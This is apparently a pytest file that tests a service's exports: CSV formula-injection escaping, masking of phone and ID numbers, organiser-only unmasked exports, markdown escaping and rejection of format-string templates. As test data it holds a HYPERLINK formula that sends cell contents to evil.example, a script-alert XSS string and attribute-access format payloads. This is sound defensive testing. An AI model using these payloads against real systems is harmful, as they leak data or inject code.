"""Exports that cannot attack the office, and personal data masked wherever it is shown
(issue 15). Real Redis, the real fold and summary job (RQ SimpleWorker), exports read back
with the csv module and python-docx."""

import base64
import csv
import io
import json

import pytest
from docx import Document
from rq import SimpleWorker
from rq.serializers import JSONSerializer

from central import keys
from central.central_log import CentralLog
from central.projection import fold_to_end
from central.queue import queue, rq_connection
from shared.markdown_text import escape_markdown
from sync_service.app import create_app
from sync_service.coordinators import add_coordinator
from sync_service.devices.tokens import Device, register_device
from sync_service.summary.unmasked_exports import unmasked_exports
from tests.factories import make_event, void_of
from tests.helpers import DAY, PLAN_PATH

PHONE, PHONE_MASKED = "13812345678", "138****5678"
ID_CARD, ID_MASKED = "110101199003071234", "110101********1234"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


def _auth(user: str, password: str) -> dict:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode(),
            "X-Requested-With": "script"}


OFFICE, ORGANISER = _auth("office", "correct horse"), _auth("boss", "organiser pass")


def _events() -> list[dict]:
    hot_here = make_event(1, "feedback.collected", {"rating": "satisfied", "topic": "dibao", "hot_issue": True,
                                                    "comment": f"请回电{PHONE} <script>alert(1)</script>"})
    formula = make_event(2, "feedback.collected", {"rating": "satisfied", "comment": HYPERLINK})
    formula["staff"] = "@SUM(1+1)"
    noted = make_event(3, "inquiry.answered", {"topic": "dibao", "department": "jiuzhu", "outcome": "answered",
                                              "note": f"身份证{ID_CARD}"})
    wrong = make_event(4, "visitor.received")
    void = void_of(wrong, 5)
    void["payload"]["reason"] = f"打错了，联系{PHONE}"
    return [hot_here, formula, noted, wrong, void]


def _other_booth() -> list[dict]:
    return [make_event(1, "feedback.collected", {"rating": "satisfied", "hot_issue": True, "comment": "八一路的意见"},
                       device_id="laptop-b", booth_id="bayi")]


@pytest.fixture
def plan_dir(tmp_path):
    """Our plan with a material label a spreadsheet would run (plan labels are typed by people too)."""
    plan = json.loads(PLAN_PATH.read_text(encoding="utf-8"))
    plan["materials"][0]["zh"] = "=1+2"
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / f"{DAY}.json").write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    return folder


@pytest.fixture
def day(redis, redis_url, plan_dir, monkeypatch):
    """A closed day with its summary made, the client signed in as the office."""
    monkeypatch.setenv("REDIS_URL", redis_url)
    monkeypatch.setenv("OPENDAY_PLAN_DIR", str(plan_dir))
    add_coordinator(redis, "office", "correct horse", [DAY])
    add_coordinator(redis, "boss", "organiser pass", [DAY], admin=True)
    app = create_app({"REDIS_URL": redis_url, "PLAN_DIR": str(plan_dir)})
    log = CentralLog(redis)
    log.append_batch(DAY, "laptop-a", _events(), received_ms=0)
    log.append_batch(DAY, "laptop-b", _other_booth(), received_ms=0)
    leaflet = make_event(6, "material.distributed")
    log.append_batch(DAY, "laptop-a", [leaflet], received_ms=0)
    client = app.test_client()
    assert client.post(f"/api/v1/days/{DAY}/close", headers=OFFICE).status_code == 202
    connection = rq_connection(redis_url)
    SimpleWorker([queue(connection)], connection=connection, serializer=JSONSerializer).work(burst=True)
    fold_to_end(redis, DAY, app.extensions["openday"]["plans"][DAY])
    return client


def _csv(response) -> list[dict]:
    assert response.status_code == 200, response.data[:300]
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_events_csv_cells_cannot_run_and_personal_numbers_are_masked(day):
    rows = _csv(day.get(f"/api/v1/days/{DAY}/exports/events.csv", headers=OFFICE))
    by_seq = {int(r["seq"]): r for r in rows if r["device_id"] == "laptop-a"}
    assert by_seq[2]["comment"] == "'" + HYPERLINK and by_seq[2]["staff"] == "'@SUM(1+1)"
    assert by_seq[6]["material_label"] == "'=1+2"
    assert by_seq[1]["comment"].startswith(f"请回电{PHONE_MASKED}")
    assert by_seq[3]["note"] == f"身份证{ID_MASKED}" and by_seq[5]["reason"] == f"打错了，联系{PHONE_MASKED}"
    text = day.get(f"/api/v1/days/{DAY}/exports/events.csv", headers=OFFICE).data.decode("utf-8-sig")
    assert PHONE not in text and ID_CARD not in text
    assert by_seq[6]["quantity"] == "20" and by_seq[4]["party_size"] == "3"  # numbers stay numbers


def test_totals_csv_labels_cannot_run(day):
    rows = _csv(day.get(f"/api/v1/days/{DAY}/exports/totals.csv", headers=OFFICE))
    leaflet = [r for r in rows if r["figure"] == "materials.distributed.leaflet" and r["scope"] == "day"]
    assert leaflet and leaflet[0]["label_zh"] == "'=1+2" and leaflet[0]["value"] == "20"
    assert all(not r[c].startswith(("=", "+", "@")) for r in rows for c in r)


def test_only_an_organiser_exports_unmasked_and_the_export_is_recorded(day, redis):
    refused = day.get(f"/api/v1/days/{DAY}/exports/events.csv?unmasked=1", headers=OFFICE)
    assert refused.status_code == 403 and "组织者" in refused.json["message"]
    assert unmasked_exports(redis, DAY) == []
    rows = _csv(day.get(f"/api/v1/days/{DAY}/exports/events.csv?unmasked=1", headers=ORGANISER))
    assert any(r["comment"].startswith(f"请回电{PHONE}") for r in rows)
    assert any(r["note"] == f"身份证{ID_CARD}" for r in rows)
    recorded = unmasked_exports(redis, DAY)
    assert [(e["by"], e["export"]) for e in recorded] == [("boss", "events.csv")] and recorded[0]["at"]
    raw = [json.loads(f["e"]) for _, f in redis.xrange(keys.log(DAY))]
    assert any(PHONE in e["payload"].get("comment", "") for e in raw)  # the log keeps what was written


def test_summary_markdown_escapes_citizens_html(day):
    markdown = day.get(f"/api/v1/days/{DAY}/exports/summary.md", headers=OFFICE).data.decode()
    assert "<script>" not in markdown and r"\<script\>alert\(1\)\</script\>" in markdown
    assert escape_markdown(PHONE_MASKED) in markdown and PHONE not in markdown  # 138\\*\\*\\*\\*5678


def test_the_summary_its_page_and_documents_mask_personal_numbers(day):
    summary = day.get(f"/api/v1/days/{DAY}/summary", headers=OFFICE).json
    texts = [h["text"] for items in summary["content"]["figures"]["hot_issues"].values() for h in items]
    assert any(PHONE_MASKED in t for t in texts) and not any(PHONE in t for t in texts)
    html = day.get(f"/api/v1/days/{DAY}/exports/summary.html", headers=OFFICE).data.decode()
    page = day.get(f"/days/{DAY}/summary", headers=OFFICE).data.decode()
    docx = Document(io.BytesIO(day.get(f"/api/v1/days/{DAY}/exports/summary.docx", headers=OFFICE).data))
    docx_text = "\n".join(p.text for p in docx.paragraphs)
    for shown in (html, page, docx_text):
        assert PHONE_MASKED in shown and PHONE not in shown
    drill = day.get(f"/api/v1/days/{DAY}/summary/events?figure=voided", headers=OFFICE).json
    assert [r["payload"]["reason"] for r in drill["events"]] == [f"打错了，联系{PHONE_MASKED}"]
    notes = day.get(f"/api/v1/days/{DAY}/summary/events?figure=inquiries.total", headers=OFFICE).json
    assert [r["payload"]["note"] for r in notes["events"]] == [f"身份证{ID_MASKED}"]


def test_totals_mask_texts_and_a_laptop_reads_only_its_own_booths_texts(day, redis):
    coordinator = day.get(f"/api/v1/days/{DAY}/totals", headers=OFFICE).json["feedback"]["hot_issue_list"]
    assert sorted(h["booth_id"] for h in coordinator) == ["bayi", "shashan"]
    assert any(PHONE_MASKED in h["text"] for h in coordinator) and not any(PHONE in h["text"] for h in coordinator)
    token = register_device(redis, Device("laptop-a", "shashan", DAY))
    bearer = {"Authorization": f"Bearer {token}"}
    whole = day.get(f"/api/v1/days/{DAY}/totals", headers=bearer).json
    assert [h["booth_id"] for h in whole["feedback"]["hot_issue_list"]] == ["shashan"]
    assert whole["feedback"]["hot_issues"] == 2  # the figures are all there; only the other booth's words are not
    other = day.get(f"/api/v1/days/{DAY}/totals?booth=bayi", headers=bearer).json
    assert other["feedback"]["hot_issue_list"] == [] and other["feedback"]["hot_issues"] == 1


def test_a_template_with_a_format_spec_or_attribute_is_refused_and_nothing_saved(day):
    before = day.get(f"/api/v1/days/{DAY}/summary/template", headers=OFFICE).json
    for bad in ("{date:{teams.__class__}}", "{date:>999999999}", "{teams.__class__}", "{figures[0]}", "{date!r}"):
        template = json.loads(json.dumps(before))
        template["zh"]["paragraph"] = bad
        refused = day.put(f"/api/v1/days/{DAY}/summary/template", headers=OFFICE, json=template)
        assert refused.status_code == 422, bad
        assert "zh.paragraph" in refused.json["errors"] and " / " in refused.json["errors"]["zh.paragraph"][0]
    assert day.get(f"/api/v1/days/{DAY}/summary/template", headers=OFFICE).json == before
